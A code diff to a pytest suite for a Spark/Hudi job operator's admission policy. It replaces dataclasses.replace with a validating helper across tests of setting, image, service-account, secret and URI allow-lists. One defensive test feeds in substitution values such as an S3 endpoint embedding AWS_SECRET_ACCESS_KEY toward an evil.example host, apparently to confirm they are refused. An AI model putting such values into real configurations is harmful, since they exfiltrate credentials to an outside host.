@@ -50,6 +50,13 @@ from lib.hbt_admission import ADMISSION, CRD_PATH, EXAMPLES, SMALL, with_spec
 from lib.paths import s3a_jars
 
 DEFAULTS = JobDefaults(image="registry.example/hudi-job:1.0", spark_version="3.5.8")
+
+
+def changed(defaults: JobDefaults, **changes: Any) -> JobDefaults:
+    """``defaults`` with these fields changed, checked as the operator checks its settings."""
+    return JobDefaults.model_validate(defaults.model_dump() | changes)
+
+
 # Refused at admission by the CRD's CEL rules (no admin may allow it), and by the operator saying so.
 AT_ADMISSION = "admission: is set by the operator"
 NOT_A_KEY = "admission: is no setting's name"
@@ -238,7 +245,7 @@ def test_the_examples_run_on_a_default_install_once_their_secrets_are_listed(pat
     for doc in tables:
         spec, namespace = parse_spec(doc["spec"]), doc["metadata"]["namespace"]
         secrets = {namespace: spec.spark.secret_names}
-        admit(spec, namespace, replace(policy, jobs=replace(policy.jobs, allowed_secrets=secrets)))
+        admit(spec, namespace, replace(policy, jobs=changed(policy.jobs, allowed_secrets=secrets)))
         if spec.spark.secret_names:  # the example says the admins must list them
             assert "jobs.allowedSecrets" in path.read_text()
 
@@ -303,13 +310,13 @@ WIDENED = [
 def test_admins_widen_the_lists_by_exact_keys_and_prefixes(
     entries: dict[str, tuple[str, ...]], where: str, key: str, allowed: bool
 ) -> None:
-    defaults = replace(DEFAULTS, **entries)
+    defaults = changed(DEFAULTS, **entries)
     assert (refusal({where: {key: "x"}}, defaults) == "") is allowed
     assert refusal({where: {key: "x"}}) != ""  # not without them
 
 
 def test_the_admins_own_settings_are_not_checked() -> None:
-    defaults = replace(
+    defaults = changed(
         DEFAULTS, spark_conf={"spark.eventLog.enabled": "true", "spark.jars": "local:///x.jar"}
     )
     assert refusal({}, defaults) == ""
@@ -319,7 +326,7 @@ def test_the_admins_own_settings_are_not_checked() -> None:
 def test_an_allow_list_entry_is_a_key_or_a_prefix(entry: str) -> None:
     for field in ("allowed_spark_conf", "allowed_hadoop_conf"):
         with pytest.raises(ValueError, match=r"jobs\.allowed"):
-            replace(DEFAULTS, **{field: (entry,)})
+            changed(DEFAULTS, **{field: (entry,)})
 
 
 # --- the lists themselves ---------------------------------------------------------------------------------
@@ -409,7 +416,7 @@ def test_the_crds_rule_refuses_exactly_the_owned_settings() -> None:
 def test_jobs_run_as_the_job_account_or_one_the_admins_list(
     account: str, allowed_accounts: tuple[str, ...], runs_as: str
 ) -> None:
-    defaults = replace(DEFAULTS, allowed_service_accounts=allowed_accounts)
+    defaults = changed(DEFAULTS, allowed_service_accounts=allowed_accounts)
     assert (
         job_settings(SparkSection.model_validate({"serviceAccount": account}), defaults).service_account
         == runs_as
@@ -418,7 +425,7 @@ def test_jobs_run_as_the_job_account_or_one_the_admins_list(
 
 @pytest.mark.parametrize("account", ["default", "cluster-admin", "spark-operator-spark", "lake-spark2"])
 def test_any_other_service_account_is_refused_saying_how_admins_allow_it(account: str) -> None:
-    defaults = replace(DEFAULTS, allowed_service_accounts=("lake-spark",))
+    defaults = changed(DEFAULTS, allowed_service_accounts=("lake-spark",))
     with pytest.raises(ServiceAccountNotAllowedError) as caught:
         job_settings(SparkSection.model_validate({"serviceAccount": account}), defaults)
     said = str(caught.value)
@@ -429,12 +436,12 @@ def test_any_other_service_account_is_refused_saying_how_admins_allow_it(account
 
 def test_an_allowed_service_account_is_a_service_account_name() -> None:
     with pytest.raises(ValueError, match="allowedServiceAccounts"):
-        replace(DEFAULTS, allowed_service_accounts=("Lake_Spark",))
+        changed(DEFAULTS, allowed_service_accounts=("Lake_Spark",))
 
 
 # --- the image allowlist ----------------------------------------------------------------------------------
 
-IMAGE_POLICY = replace(
+IMAGE_POLICY = changed(
     DEFAULTS,
     allowed_images=("registry.example/hudi-job", "mirror.example/lake/", "pinned.example/job:1.0"),
 )
@@ -579,7 +586,7 @@ def test_whatever_the_text_an_admitted_image_is_a_lower_case_ascii_reference_und
 )
 def test_an_allowlist_entry_that_admits_no_reference_stops_the_operator(entry: str) -> None:
     with pytest.raises(ValueError, match="allowedImages"):
-        replace(DEFAULTS, allowed_images=(entry,))
+        changed(DEFAULTS, allowed_images=(entry,))
 
 
 # --- the values of the settings ---------------------------------------------------------------------------
@@ -615,7 +622,7 @@ def test_each_allowed_key_takes_its_kind_of_value_and_refuses_others_without_ech
 
 
 def test_no_value_may_hold_a_substitution_whoever_allows_its_key() -> None:
-    defaults = replace(DEFAULTS, allowed_hadoop_conf=("fs.s3a.endpoint",), allowed_spark_conf=("spark.ui.",))
+    defaults = changed(DEFAULTS, allowed_hadoop_conf=("fs.s3a.endpoint",), allowed_spark_conf=("spark.ui.",))
     spark = {
         "hadoopConf": {"fs.s3a.endpoint": "https://${env.AWS_SECRET_ACCESS_KEY}.evil.example"},
         "sparkConf": {"spark.ui.port": "${env:PASSWORD}", "spark.hadoop.fs.s3a.connection.maximum": "${x}"},
@@ -677,13 +684,13 @@ def test_a_driver_or_executors_over_the_admins_limits_are_refused_naming_each() 
         {"driver": {"cores": 4, "memory": "16g"}, "executor": {"cores": 8, "memory": "32g", "instances": 50}}
     )
     assert job_settings(at_most, DEFAULTS).executor == Resources(8, "32g", 50)
-    wider = replace(DEFAULTS, max_executor=Resources(cores=256, memory="1t", instances=1000))
+    wider = changed(DEFAULTS, max_executor_cores=256, max_executor_memory="1t", max_executor_instances=1000)
     job_settings(spark.model_copy(update={"driver": DriverSection()}), wider)
 
 
 def test_defaults_over_the_limits_stop_the_operator_at_start() -> None:
     with pytest.raises(ValueError, match=r"the default job is over jobs\.limits"):
-        replace(DEFAULTS, executor=Resources(cores=1, memory="64g", instances=1))
+        changed(DEFAULTS, executor_memory="64g")
 
 
 # --- Secrets and table URIs, by namespace -----------------------------------------------------------------
@@ -701,7 +708,7 @@ def admitted(spec: dict[str, Any], namespace: str = "lake", policy: Policy = DEF
     return ""
 
 
-SECRETS = Policy(replace(DEFAULTS, allowed_secrets={"lake": ("lake-s3",), "*": ("shared-ro",)}))
+SECRETS = Policy(changed(DEFAULTS, allowed_secrets={"lake": ("lake-s3",), "*": ("shared-ro",)}))
 
 
 @pytest.mark.parametrize(
@@ -728,7 +735,7 @@ def test_a_secret_becomes_a_jobs_environment_only_if_the_admins_list_it_for_the_
         assert repr(namespace) in said
 
 
-TEAMS = Policy(replace(DEFAULTS, allowed_table_uris={"*": (), "team-a": ("s3a://lake/team-a", "/data/a/")}))
+TEAMS = Policy(changed(DEFAULTS, allowed_table_uris={"*": (), "team-a": ("s3a://lake/team-a", "/data/a/")}))
 # (uri, namespace, policy, admitted?): each attack on the rule, and what the rule says of it.
 URIS_TRIED = [
     ("s3a://lake/warehouse/orders", "lake", Policy(), True),
